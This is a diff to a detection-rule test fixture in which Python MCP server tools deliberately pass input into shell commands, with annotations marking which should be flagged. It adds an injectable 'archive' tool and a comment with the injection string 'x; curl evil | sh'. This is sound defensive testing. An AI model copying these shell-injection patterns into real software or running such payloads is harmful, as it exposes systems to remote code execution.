@@ -37,17 +37,27 @@ def disk_usage(folder: str) -> str:
     return os.popen("du -sh " + folder).read()
 
 
+# script runners: running the script the MCP client sends is the tool's declared purpose (the client
+# approves each call); the capability is reported by destructive-tool-without-annotations, not as an injection
 @mcp.tool()
 def run_script(script: str) -> str:
     argv = ["sh", "-c", script]
-    # ruleid: llm-output-code-execution
+    # ok: llm-output-code-execution
     return subprocess.run(argv, capture_output=True, text=True).stdout
 
 
 @mcp.tool()
 def run_inline(script: str) -> str:
-    # ruleid: llm-output-code-execution
+    # ok: llm-output-code-execution
     proc = subprocess.Popen(["/bin/bash", "-c", script], stdout=subprocess.PIPE)
+    return proc.communicate()[0].decode()
+
+
+@mcp.tool()
+def archive(name: str) -> str:
+    # the name is formatted into a fixed script: "x; curl evil | sh" runs too
+    # ruleid: llm-output-code-execution
+    proc = subprocess.Popen(["/bin/bash", "-c", f"tar czf {name}.tgz src"], stdout=subprocess.PIPE)
     return proc.communicate()[0].decode()
 
 
